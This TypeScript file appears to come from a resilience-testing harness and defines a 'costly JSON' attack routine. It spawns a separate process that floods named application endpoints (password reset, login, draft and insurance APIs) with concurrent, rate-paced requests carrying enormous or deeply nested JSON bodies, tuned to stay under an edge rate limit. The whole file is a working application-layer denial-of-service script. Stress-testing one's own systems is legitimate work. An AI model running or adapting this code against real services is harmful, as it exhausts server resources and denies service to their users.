import { spawn } from 'node:child_process';
import type { TimedAttack } from './timed-attack';

/** Concurrent requests, below the edge's limit for one address, which the other user shares. */
const atOnce = 16;
/** About 58 MB per second, the capacity of a half-gigabit connection. */
const perSecond = 20;

const objectOf = (keys: number) => `{${Array.from({ length: keys }, (_, at) => `"key${at}":1`).join(',')}}`;
const nested = (levels: number) => `${'['.repeat(levels)}${']'.repeat(levels)}`;

/** Requests, with and without a session, whose JSON is expensive to generate or validate. */
const bodies = [
  { path: '/users/passwordReset', method: 'POST', body: objectOf(500_000) },
  { path: '/users/passwordReset', method: 'POST', body: objectOf(1_300) },
  { path: '/users/passwordReset', method: 'POST', body: nested(500_000) },
  { path: '/nowhere', method: 'POST', body: objectOf(500_000) },
  { path: '/login', method: 'POST', form: true, body: 'a=&'.repeat(10_000) },
  { path: '/api/addReduces/draft', method: 'PUT', body: objectOf(500_000) },
  { path: '/api/addReduces/draft', method: 'PUT', body: nested(500_000) },
  { path: '/api/insures/checkPersons', method: 'POST', body: `{"rows":[${'{},'.repeat(400_000)}{}]}` },
];

/** Runs in a separate process with low priority: a real attacker uses another machine. */
const sender = `
  const { setPriority } = require('node:os');
  setPriority(19);
  process.once('message', ({ base, token, atOnce, perSecond, bodies }) => {
    const sized = bodies.map((one) => ({ ...one, body: Buffer.from(one.body) }));
    const counts = {};
    const send = async (from) => {
      for (let index = from; ; index += 1) {
        const { path, method, body, form } = sized[index % sized.length];
        const paced = new Promise((resolve) => setTimeout(resolve, (1_000 * atOnce) / perSecond));
        const type = form ? 'application/x-www-form-urlencoded' : 'application/json';
        const headers = { Token: token, 'Content-Type': type };
        const status = await fetch(base + '/prod-api' + path, { method, headers, body })
          .then((reply) => reply.arrayBuffer().then(() => reply.status))
          .catch(() => 'closed');
        counts[status] = (counts[status] ?? 0) + 1;
        process.send(counts);
        await paced;
      }
    };
    for (let at = 0; at < atOnce; at += 1) void send(at);
  });
  process.once('disconnect', () => process.exit());
`;

/** Sends these requests until the end, several at once. */
export const costlyJson: TimedAttack = {
  name: 'costly JSON',
  async begin({ base, attacker: { token } }) {
    let counts: Record<string, number> = {};
    const attacker = spawn(process.execPath, ['-e', sender], {
      stdio: ['ignore', 'inherit', 'inherit', 'ipc'],
    });
    attacker.on('message', (latest: Record<string, number>) => (counts = latest));
    attacker.send({ base, token, atOnce, perSecond, bodies });
    return () => {
      attacker.kill();
      return Object.entries(counts)
        .map(([status, count]) => `${count} × ${status}`)
        .join(', ');
    };
  },
};
